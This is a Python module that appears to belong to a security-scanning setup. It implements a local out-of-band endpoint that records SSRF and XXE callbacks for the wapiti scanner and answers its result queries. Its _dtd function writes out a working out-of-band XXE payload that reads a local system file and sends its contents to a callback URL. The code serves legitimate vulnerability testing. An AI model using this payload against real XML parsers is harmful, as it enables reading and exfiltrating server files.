"""The out-of-band endpoint wapiti's SSRF and XXE modules report through, served by the supervising proxy.

wapiti proves server-side request forgery and out-of-band XML external entities by making the app
contact an endpoint: its payloads carry URLs such as ``{endpoint}ssrf/{session}/{path_id}/{hex param}/``
and ``{endpoint}dtd/{session}/{path_id}/{hex param}/{payload}.dtd``; at the end of the attack it asks
``{endpoint}get_ssrf.php?session_id=...`` and ``get_xxe.php`` which requests arrived. The public
endpoint is a remote service; here the proxy plays it, inside the scan's loopback-only network, so
the app's callbacks never leave the machine and become wapiti's own findings (with its requests).

Everything in a callback comes from the app under scan: parts are length-capped, the path id must be
a number and the parameter valid hex, and at most :data:`MAX_HITS` are kept.
"""

from __future__ import annotations

import binascii
import json
import threading
from dataclasses import dataclass
from datetime import datetime, timezone
from urllib.parse import parse_qs, urlsplit

MAX_HITS = 1000
_PART = 200  # longest path part kept


@dataclass(frozen=True)
class Hit:
    """One callback from the app."""

    kind: str  # ssrf | xxe
    session: str
    path_id: str
    hex_param: str
    url: str
    method: str
    date: str
    size: int = 0
    payload: str = ""

    @property
    def parameter(self) -> str:
        try:
            return binascii.unhexlify(self.hex_param).decode("utf-8", "replace")
        except (binascii.Error, ValueError):
            return self.hex_param


class OutOfBand:
    """Records the app's callbacks and answers wapiti's result queries (thread-safe)."""

    def __init__(self, prefix: str) -> None:
        self.prefix = prefix  # the path under which the endpoint lives, ending with "/"
        self.hits: list[Hit] = []
        self.dropped = 0
        self._lock = threading.Lock()

    def _record(self, hit: Hit) -> None:
        with self._lock:
            if len(self.hits) >= MAX_HITS:
                self.dropped += 1
                return
            self.hits.append(hit)

    def handle(self, method: str, target: str, public_base: str) -> tuple[int, bytes, str]:
        """(status, body, content type) for one request to the endpoint; ``target`` is the request's path and query."""
        split = urlsplit(target)
        rest = split.path[len(self.prefix):] if split.path.startswith(self.prefix) else ""
        parts = [part[:_PART] for part in rest.split("/")]
        if parts and parts[0] in ("get_ssrf.php", "get_xxe.php"):
            session = (parse_qs(split.query).get("session_id") or [""])[0][:_PART]
            return 200, json.dumps(self.results("ssrf" if parts[0] == "get_ssrf.php" else "xxe", session)).encode(), "application/json"
        now = datetime.now(timezone.utc).isoformat(timespec="seconds")
        url = (public_base.rstrip("/") + target)[:2000]
        if len(parts) >= 4 and parts[0] == "ssrf" and _ids(parts[2], parts[3]):
            self._record(Hit("ssrf", parts[1], parts[2], parts[3], url, method[:16], now))
            return 200, b"", "text/plain"
        if len(parts) >= 5 and parts[0] == "dtd" and _ids(parts[2], parts[3]):
            name = parts[4].removesuffix(".dtd")
            self._record(Hit("xxe", parts[1], parts[2], parts[3], url, method[:16], now, 0, name))
            exfil = f"{public_base.rstrip('/')}{self.prefix}xoxo/{parts[1]}/{parts[2]}/{parts[3]}/{name}/"
            return 200, _dtd(name, exfil).encode(), "application/xml-dtd"
        if len(parts) >= 6 and parts[0] == "xoxo" and _ids(parts[2], parts[3]):
            data = "/".join(parts[5:])
            self._record(Hit("xxe", parts[1], parts[2], parts[3], url, method[:16], now, max(1, len(data)), parts[4]))
            return 200, b"", "text/plain"
        return 404, b"", "text/plain"

    def results(self, kind: str, session: str) -> dict[str, dict[str, list[dict[str, object]]]]:
        """What get_ssrf.php / get_xxe.php answer: {path id: {hex parameter: [callback, ...]}} for one session.

        For XXE, a callback that carried data replaces the bare DTD fetch of the same payload.
        """
        with self._lock:
            hits = [hit for hit in self.hits if hit.kind == kind and hit.session == session]
        answer: dict[str, dict[str, list[dict[str, object]]]] = {}
        for hit in hits:
            entries = answer.setdefault(hit.path_id, {}).setdefault(hit.hex_param, [])
            entry: dict[str, object] = {"url": hit.url, "date": hit.date, "ip": "127.0.0.1", "method": hit.method, "size": hit.size}
            if kind == "xxe":
                entry["payload"] = hit.payload
                same = [index for index, old in enumerate(entries) if old.get("payload") == hit.payload]
                if same:
                    if hit.size and not entries[same[0]]["size"]:
                        entries[same[0]] = entry
                    continue
            entries.append(entry)
        return answer

    def summary(self) -> dict[str, int]:
        """Counts per kind, for the scan's metrics."""
        with self._lock:
            counts = {"ssrf": 0, "xxe": 0}
            for hit in self.hits:
                counts[hit.kind] = counts.get(hit.kind, 0) + 1
            return {**counts, "dropped": self.dropped}


def _ids(path_id: str, hex_param: str) -> bool:
    if not path_id.isdigit() or not hex_param:
        return False
    try:
        binascii.unhexlify(hex_param)
    except (binascii.Error, ValueError):
        return False
    return True


def _dtd(name: str, exfil: str) -> str:
    """A DTD that makes a parser resolving external entities call back with a local file's first bytes.

    The file is one every system has and that holds nothing secret (the host name).
    """
    if name.startswith(("linux", "windows")):
        source = "file:///etc/hostname" if name.startswith("linux") else "file:///c:/windows/win.ini"
        return (
            f'<!ENTITY % payload SYSTEM "{source}">\n'
            f"<!ENTITY % intern \"<!ENTITY &#37; trick SYSTEM '{exfil}%payload;'>\">\n"
        )
    return f'<!ENTITY trick SYSTEM "{exfil}data">\n'
